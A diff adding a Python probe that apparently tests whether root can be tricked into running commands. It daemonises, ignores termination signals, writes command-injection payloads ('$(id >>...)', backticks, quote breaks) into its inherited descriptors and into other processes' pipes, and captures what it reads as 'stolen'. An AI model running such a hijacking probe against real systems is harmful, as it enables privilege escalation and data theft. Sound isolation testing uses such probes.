@@ -1,0 +1,102 @@
+"""Write to every descriptor that was inherited, read from each, and live on in the background.
+
+A line in a startup file of the work user runs it: inherits.py FOLDER WHERE SECONDS. It writes
+what it was given into FOLDER/inherits.log, and then what would be a command of root's, wherever it
+may: into its own descriptors, and into those of every other process of the same account.
+"""
+
+import contextlib
+import json
+import os
+import select
+import signal
+import sys
+import time
+from pathlib import Path
+
+MARKER = "/TRUST_ROOT_RAN_IT"
+FORGED = "trust-forged-answer"
+STEP = 0.005
+MOST_LINES = 4000
+LINES = (
+    f"1/cmdline >/dev/null; id >>{MARKER}; : ",
+    f"$(id >>{MARKER}) `id >>{MARKER}`",
+    f"x'; id >>{MARKER}; '",
+    f"{FORGED}",
+)
+
+
+def held() -> dict[int, str]:
+    """What each descriptor of this process leads to, but for the listing's own."""
+    found = {}
+    for name in os.listdir("/proc/self/fd"):
+        with contextlib.suppress(OSError):
+            found[int(name)] = os.readlink(f"/proc/self/fd/{name}")
+    return {number: leads for number, leads in found.items() if not leads.endswith("/fd")}
+
+
+def parent() -> str:
+    with contextlib.suppress(OSError):
+        return Path(f"/proc/{os.getppid()}/cmdline").read_bytes().decode(errors="replace")
+    return ""
+
+
+def write(number: int, line: bytes) -> None:
+    with contextlib.suppress(OSError, ValueError):
+        if select.select([], [number], [], 0)[1]:
+            os.write(number, line)
+
+
+def read(number: int) -> bytes:
+    with contextlib.suppress(OSError, ValueError):
+        if select.select([number], [], [], 0)[0]:
+            return os.read(number, 4096)
+    return b""
+
+
+def others() -> list[int]:
+    """Descriptors of the account's other processes, opened anew: pipes, and files without a name."""
+    opened = []
+    for folder in Path("/proc").glob("[0-9]*/fd"):
+        with contextlib.suppress(OSError):
+            if int(folder.parent.name) == os.getpid():
+                continue
+            for each in folder.iterdir():
+                leads = os.readlink(each)
+                if leads.startswith("pipe:") or "deeprig-as" in leads or "/tmp." in leads:
+                    with contextlib.suppress(OSError):
+                        opened.append(os.open(each, os.O_WRONLY | os.O_NONBLOCK | os.O_APPEND))
+    return opened
+
+
+def main(folder: str, where: str, seconds: float) -> None:
+    has = held()
+    with Path(folder, "inherits.log").open("a") as log:
+        said = {"where": where, "pid": os.getpid(), "uid": os.getuid(), "by": parent()}
+        log.write(json.dumps({**said, "held": has}) + "\n")
+    if os.fork():
+        os._exit(0)
+    os.setsid()
+    for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGPIPE, signal.SIGXFSZ):
+        signal.signal(number, signal.SIG_IGN)
+    end, count, stolen, wrote = time.monotonic() + seconds, 0, b"", 0
+    while time.monotonic() < end and count < MOST_LINES:
+        line = (LINES[count % len(LINES)] + "\n").encode()
+        for number, leads in has.items():
+            if "inherits.log" not in leads and "/dev/null" not in leads:
+                write(number, line)
+                stolen += read(number)
+        if count % 40 == 0:
+            for number in others():
+                write(number, line)
+                wrote += 1
+                os.close(number)
+        count += 1
+        time.sleep(STEP)
+    with Path(folder, "inherits.log").open("a") as log:
+        about = {"where": where, "pid": os.getpid(), "lines": count, "elsewhere": wrote}
+        log.write(json.dumps({**about, "stolen": stolen[:200].decode(errors="replace")}) + "\n")
+
+
+if __name__ == "__main__":
+    main(sys.argv[1], sys.argv[2], float(sys.argv[3]))
